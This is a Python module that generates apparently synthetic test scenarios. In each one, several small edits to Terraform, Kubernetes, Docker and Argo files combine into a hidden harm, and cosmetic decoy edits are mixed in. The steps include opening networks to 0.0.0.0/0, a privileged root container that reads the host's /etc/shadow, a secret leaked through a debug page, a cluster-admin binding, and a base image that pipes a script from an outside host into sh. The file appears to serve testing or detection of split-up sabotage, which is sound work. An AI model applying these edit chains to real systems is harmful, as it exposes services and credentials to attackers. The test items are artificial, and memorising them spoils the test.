"""Plans whose harm stands in infrastructure: modules, images, clusters, networks, secrets, deploy targets."""

from __future__ import annotations

from corpus.chains_blind.plans import SECRETS, SERVICES, TEAMS, Edit, Plan, step


def deployment(app: str, image: str, extra: str = "", labels: str = "") -> str:
    """A plain Kubernetes deployment."""
    return f"""apiVersion: apps/v1
kind: Deployment
metadata:
  name: {app}
  namespace: {app}
spec:
  replicas: 2
  selector:
    matchLabels:
      app: {app}
  template:
    metadata:
      labels:
        app: {app}
{labels}    spec:
      containers:
        - name: {app}
          image: {image}
          securityContext:
            runAsNonRoot: true
            allowPrivilegeEscalation: false
{extra}"""


def module_default(v: int) -> Plan:
    """The user stops saying a value, the module's default for it changes."""
    team, app = TEAMS[v], SERVICES[v]
    mod, live = f"terraform-{team}-service", f"{team}-live"
    return Plan(
        "module-default", "network", "two", "the load balancer becomes reachable from the internet",
        {
            mod: {"variables.tf": 'variable "name" {\n  type        = string\n  description = "Name of the service"\n}\n\n'
                                  'variable "internal" {\n  type        = bool\n  default     = true\n  description = "Reachable from inside only"\n}\n\n'
                                  'variable "allowed" {\n  type        = list(string)\n  default     = ["10.0.0.0/8"]\n  description = "Who may connect"\n}\n',
                  "main.tf": 'resource "aws_lb" "this" {\n  name     = var.name\n  internal = var.internal\n}\n\n'
                             'resource "aws_security_group" "this" {\n  name = var.name\n  ingress {\n    from_port   = 443\n    to_port     = 443\n'
                             '    protocol    = "tcp"\n    cidr_blocks = var.allowed\n  }\n}\n'},
            live: {f"prod/{app}.tf": f'module "{app}" {{\n  source   = "git::https://git.example.com/{team}/{mod}.git?ref=main"\n  name     = "{app}"\n'
                                     '  internal = true\n  allowed  = ["10.20.0.0/16"]\n}\n'},
        },
        (
            step("drop-internal", Edit(live, f"prod/{app}.tf", "  internal = true\n", "")),
            step("drop-allowed", Edit(live, f"prod/{app}.tf", '  allowed  = ["10.20.0.0/16"]\n', "")),
            step("default-internal", Edit(mod, "variables.tf", "default     = true", "default     = false")),
            step("default-allowed", Edit(mod, "variables.tf", '["10.0.0.0/8"]', '["0.0.0.0/0"]')),
        ),
        (
            Edit(mod, "variables.tf", '"Name of the service"', '"The name of the service"'),
            Edit(mod, "variables.tf", '"Who may connect"', '"Networks that may connect"'),
            Edit(live, f"prod/{app}.tf", f'  name     = "{app}"\n', f'  # the name is that of the service\n  name     = "{app}"\n'),
        ),
        {mod: "dev", live: "prod"}, "named in files",
    )


def image_privileged(v: int) -> Plan:
    """The image gains a way to root here, the pod that runs it is let out of its box there."""
    team, app = TEAMS[v], SERVICES[v]
    image = f"registry.example/{team}/{app}"
    ops = f"{team}-deploy"
    return Plan(
        "image-privileged", "infrastructure", "two", "what the image starts runs as root with the host's devices",
        {
            app: {"Dockerfile": f"FROM python:3.12-slim\nLABEL title={app}\nWORKDIR /srv\nCOPY . /srv\nRUN useradd -r runner\nUSER runner\nCMD [\"python\", \"-m\", \"serve\"]\n",
                  "serve.py": "def main() -> None:\n    print('serving')\n"},
            ops: {f"{app}.yaml": deployment(app, image + ":1.8"),
                  ".magistrate.yml": f"version: 1\nlinks:\n  {app}: {{image: [{image}]}}\n"},
        },
        (
            step("root", Edit(app, "Dockerfile", "USER runner\n", "")),
            step("entry", Edit(app, "serve.py", "    print('serving')\n", "    import subprocess\n\n    subprocess.run(['sh', '/srv/start.sh'], check=False)\n    print('serving')\n")),
            step("start", Edit(app, "start.sh", None, "#!/bin/sh\nchroot /host sh -c 'cat /etc/shadow' > /tmp/s\n")),
            step("nonroot", Edit(ops, f"{app}.yaml", "            runAsNonRoot: true\n", "")),
            step("privileged", Edit(ops, f"{app}.yaml", "            allowPrivilegeEscalation: false\n", "            privileged: true\n")),
        ),
        (
            Edit(app, "Dockerfile", f"LABEL title={app}", f"LABEL title={app}-service"),
            Edit(app, "serve.py", "print('serving')", "print('serving now')"),
            Edit(ops, f"{app}.yaml", "replicas: 2", "replicas: 3"),
        ),
        {app: "dev", ops: "prod"}, "declared",
    )


def secret_shown(v: int) -> Plan:
    """A secret gets another name here, and what reads that name shows it there."""
    team, app, secret = TEAMS[v], SERVICES[v], SECRETS[v]
    vault = f"{team}-secrets"
    return Plan(
        "secret-shown", "secrets", "two", "a secret is served by the debug page under its new name",
        {
            vault: {f"{app}.yaml": f"apiVersion: external-secrets.io/v1\nkind: ExternalSecret\nmetadata:\n  name: {app}\nspec:\n  refreshInterval: 1h\n"
                                   f"  secretStoreRef:\n    name: vault\n    kind: ClusterSecretStore\n  target:\n    name: {app}\n  data:\n"
                                   f"    - secretKey: {secret}\n      remoteRef:\n        key: {app}/main\n"},
            app: {"app/debug.py": "import os\n\nSHOWN = ('BUILD_', 'REGION')\n\n\ndef page() -> dict[str, str]:\n"
                                  "    return {name: value for name, value in os.environ.items() if name.startswith(SHOWN)}\n",
                  "k8s/deployment.yaml": deployment(app, f"registry.example/{team}/{app}:2.0",
                                                    f"          env:\n            - name: REGION\n              value: eu-1\n"),
                  ".magistrate.yml": f"version: 1\nlinks:\n  {vault}: {{secret: [{secret}, BUILD_NOTE]}}\n"},
        },
        (
            step("rename", Edit(vault, f"{app}.yaml", f"secretKey: {secret}", "secretKey: BUILD_NOTE")),
            step("env", Edit(app, "k8s/deployment.yaml", "              value: eu-1\n",
                 f"              value: eu-1\n          envFrom:\n            - secretRef:\n                name: {app}\n")),
            step("route", Edit(app, "app/routes.py", None, "from app.debug import page\n\nROUTES = {'/about': page}\n")),
        ),
        (
            Edit(vault, f"{app}.yaml", "refreshInterval: 1h", "refreshInterval: 2h"),
            Edit(app, "app/debug.py", "SHOWN = (", "# what the page may show\nSHOWN = ("),
            Edit(app, "k8s/deployment.yaml", "replicas: 2", "replicas: 4"),
        ),
        {vault: "prod", app: "prod"}, "declared",
    )


def dev_then_prod(v: int) -> Plan:
    """A switch is turned in development, where nobody minds, and then promoted."""
    team, app = TEAMS[v], SERVICES[v]
    dev, prod = f"{app}-dev", f"{app}-prod"
    settings = f"service: {app}\nlog_level: info\nauth:\n  required: true\n  issuer: https://id.example.com\ntimeout_seconds: 20\n"
    return Plan(
        "dev-then-prod", "authentication", "two", "production answers without a login",
        {
            dev: {"overlay/settings.yaml": settings.replace("log_level: info", "log_level: debug")},
            prod: {"overlay/settings.yaml": settings, "promote.sh": "#!/bin/sh\nset -eu\nfor f in routes.yaml; do cp ../" + dev + "/overlay/$f overlay/; done\n",
                   "overlay/routes.yaml": f"routes:\n  - /{app}\n",
                   ".magistrate.yml": f"version: 1\nlinks:\n  {dev}: {{deploy_target: [{app}]}}\n"},
        },
        (
            step("dev-off", Edit(dev, "overlay/settings.yaml", "required: true", "required: false")),
            step("promote", Edit(prod, "promote.sh", "for f in routes.yaml;", "for f in routes.yaml settings.yaml;")),
            step("prod-off", Edit(prod, "overlay/settings.yaml", "  required: true", "  required: false"), after=("dev-off",)),
        ),
        (
            Edit(dev, "overlay/settings.yaml", "timeout_seconds: 20", "timeout_seconds: 25"),
            Edit(prod, "overlay/settings.yaml", "timeout_seconds: 20", "timeout_seconds: 25"),
            Edit(prod, "promote.sh", "set -eu\n", "set -eu\necho promoting\n"),
        ),
        {dev: "dev", prod: "prod"}, "declared",
    )


def role_then_subject(v: int) -> Plan:
    """A role is bound to nobody first; the one it names is made later."""
    team, app = TEAMS[v], SERVICES[v]
    rbac = f"{team}-rbac"
    return Plan(
        "role-then-subject", "permissions", "two", "a pod of the service runs with a binding to cluster-admin",
        {
            rbac: {"bindings.yaml": "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: operators\n  labels:\n    team: platform\n"
                                    "roleRef:\n  apiGroup: rbac.authorization.k8s.io\n  kind: ClusterRole\n  name: view\nsubjects:\n"
                                    "  - kind: Group\n    name: operators\n    apiGroup: rbac.authorization.k8s.io\n"},
            app: {"k8s/deployment.yaml": deployment(app, f"registry.example/{team}/{app}:3.1"),
                  ".magistrate.yml": f"version: 1\nlinks:\n  {rbac}: {{deploy_target: [{app}]}}\n"},
        },
        (
            step("bind", Edit(rbac, "bindings.yaml", "subjects:\n", f"subjects:\n  - kind: ServiceAccount\n    name: reporter\n    namespace: {app}\n")),
            step("role", Edit(rbac, "bindings.yaml", "  name: view\n", "  name: cluster-admin\n")),
            step("account", Edit(app, "k8s/account.yaml", None, f"apiVersion: v1\nkind: ServiceAccount\nmetadata:\n  name: reporter\n  namespace: {app}\n")),
            step("use", Edit(app, "k8s/deployment.yaml", "    spec:\n      containers:\n", "    spec:\n      serviceAccountName: reporter\n      containers:\n"), after=("account",)),
        ),
        (
            Edit(rbac, "bindings.yaml", "team: platform", "team: platform-eu"),
            Edit(app, "k8s/deployment.yaml", "replicas: 2", "replicas: 3"),
            Edit(app, "k8s/deployment.yaml", ":3.1", ":3.1.1"),
        ),
        {rbac: "prod", app: "prod"}, "declared",
    )


def policy_labels(v: int) -> Plan:
    """A network policy admits a label; then what faces the internet wears it."""
    team, app = TEAMS[v], SERVICES[v]
    edge = deployment("edge", f"registry.example/{team}/edge:1.0", labels="        tier: front\n")
    return Plan(
        "policy-labels", "network", "two", "the edge reaches the data store",
        {app: {"k8s/policy.yaml": f"apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata:\n  name: store\n  annotations:\n    note: store of {app}\nspec:\n"
                                  "  podSelector:\n    matchLabels:\n      app: store\n  policyTypes: [Ingress]\n  ingress:\n    - from:\n        - podSelector:\n"
                                  "            matchLabels:\n              tier: back\n",
               "k8s/edge.yaml": edge}},
        (
            step("admit", Edit(app, "k8s/policy.yaml", "              tier: back\n", "              tier: reports\n")),
            step("wear", Edit(app, "k8s/edge.yaml", "        tier: front\n", "        tier: reports\n")),
            step("namespace", Edit(app, "k8s/policy.yaml", "        - podSelector:\n", "        - namespaceSelector: {}\n          podSelector:\n")),
        ),
        (
            Edit(app, "k8s/policy.yaml", f"note: store of {app}", f"note: the store of {app}"),
            Edit(app, "k8s/edge.yaml", "replicas: 2", "replicas: 3"),
            Edit(app, "k8s/edge.yaml", "edge:1.0", "edge:1.0.1"),
        ),
        {app: "prod"},
    )


def argo_follow(v: int) -> Plan:
    """The cluster follows a branch from now on; what stands on the branch changes."""
    team, app = TEAMS[v], SERVICES[v]
    fleet = f"{team}-fleet"
    return Plan(
        "argo-follow", "infrastructure", "two", "the cluster runs the service on the host's network and pid space",
        {
            fleet: {f"apps/{app}.yaml": f"apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata:\n  name: {app}\n  annotations:\n    owner: platform\nspec:\n"
                                        f"  project: default\n  source:\n    repoURL: https://git.example.com/{team}/{app}.git\n    targetRevision: v4.2.0\n    path: k8s\n"
                                        f"  destination:\n    server: https://kubernetes.default.svc\n    namespace: {app}\n"},
            app: {"k8s/deployment.yaml": deployment(app, f"registry.example/{team}/{app}:4.2")},
        },
        (
            step("follow", Edit(fleet, f"apps/{app}.yaml", "targetRevision: v4.2.0", "targetRevision: main")),
            step("net", Edit(app, "k8s/deployment.yaml", "    spec:\n      containers:\n", "    spec:\n      hostNetwork: true\n      containers:\n")),
            step("sync", Edit(fleet, f"apps/{app}.yaml", "  destination:\n", "  syncPolicy:\n    automated: {}\n  destination:\n")),
        ),
        (
            Edit(fleet, f"apps/{app}.yaml", "owner: platform", "owner: platform-team"),
            Edit(app, "k8s/deployment.yaml", "replicas: 2", "replicas: 3"),
        ),
        {fleet: "prod", app: "dev"}, "named in files",
    )


def base_image(v: int) -> Plan:
    """The user follows a moving tag; the base image gains an installer from elsewhere."""
    team, app = TEAMS[v], SERVICES[v]
    base = f"{team}-images"
    image = f"registry.example/{team}/runtime"
    return Plan(
        "base-image", "infrastructure", "two", "every build of the service runs a program fetched from a stranger, as root",
        {
            base: {"runtime/Dockerfile": "FROM debian:12-slim\nLABEL purpose=runtime\nRUN apt-get update && apt-get install -y python3\nUSER 1000\n",
                   "runtime/setup.sh": "#!/bin/sh\nset -eu\nmkdir -p /srv\n"},
            app: {"Dockerfile": f"FROM {image}:2.3\nLABEL purpose={app}\nCOPY . /srv\n",
                  ".magistrate.yml": f"version: 1\nlinks:\n  {base}: {{image: [{image}]}}\n"},
        },
        (
            step("tag", Edit(app, "Dockerfile", f"{image}:2.3", f"{image}:latest")),
            step("copy", Edit(base, "runtime/Dockerfile", "USER 1000\n", "COPY setup.sh /setup.sh\nRUN sh /setup.sh\nUSER 1000\n")),
            step("fetch", Edit(base, "runtime/setup.sh", "mkdir -p /srv\n", "mkdir -p /srv\ncurl -fsSL https://get.example.net/agent | sh\n")),
        ),
        (
            Edit(base, "runtime/Dockerfile", "LABEL purpose=runtime", "LABEL purpose=base"),
            Edit(base, "runtime/setup.sh", "mkdir -p /srv\n", "mkdir -p /srv /srv/log\n"),
            Edit(app, "Dockerfile", f"LABEL purpose={app}", f"LABEL purpose={app}-service"),
        ),
        {base: "dev", app: "prod"}, "declared",
    )


def tfvars_open(v: int) -> Plan:
    """A rule reads a list; the list comes from a file of values; the values change."""
    team, app = TEAMS[v], SERVICES[v]
    return Plan(
        "tfvars-open", "network", "two", "the database port is open to the internet",
        {f"{team}-net": {
            "main.tf": f'locals {{\n  peers = ["10.1.0.0/16"]\n}}\n\nresource "aws_security_group" "db" {{\n  name        = "{app}-db"\n  description = "Database"\n'
                       '  ingress {\n    from_port   = 5432\n    to_port     = 5432\n    protocol    = "tcp"\n    cidr_blocks = local.peers\n  }\n}\n',
            "variables.tf": 'variable "region" {\n  type    = string\n  default = "eu-1"\n}\n',
            "terraform.tfvars": 'region = "eu-1"\n',
        }},
        (
            step("variable", Edit(f"{team}-net", "variables.tf", 'variable "region" {', 'variable "partners" {\n  type    = list(string)\n  default = []\n}\n\nvariable "region" {')),
            step("read", Edit(f"{team}-net", "main.tf", 'peers = ["10.1.0.0/16"]', 'peers = concat(["10.1.0.0/16"], var.partners)'), after=("variable",)),
            step("value", Edit(f"{team}-net", "terraform.tfvars", 'region = "eu-1"\n', 'region = "eu-1"\npartners = ["0.0.0.0/1", "128.0.0.0/1"]\n'), after=("variable",)),
        ),
        (
            Edit(f"{team}-net", "main.tf", '"Database"', '"The database"'),
            Edit(f"{team}-net", "terraform.tfvars", 'region = "eu-1"\n', '# where it runs\nregion = "eu-1"\n'),
        ),
        {f"{team}-net": "prod"},
    )


FAMILIES = (module_default, image_privileged, secret_shown, dev_then_prod, role_then_subject, policy_labels, argo_follow, base_image, tfvars_open)
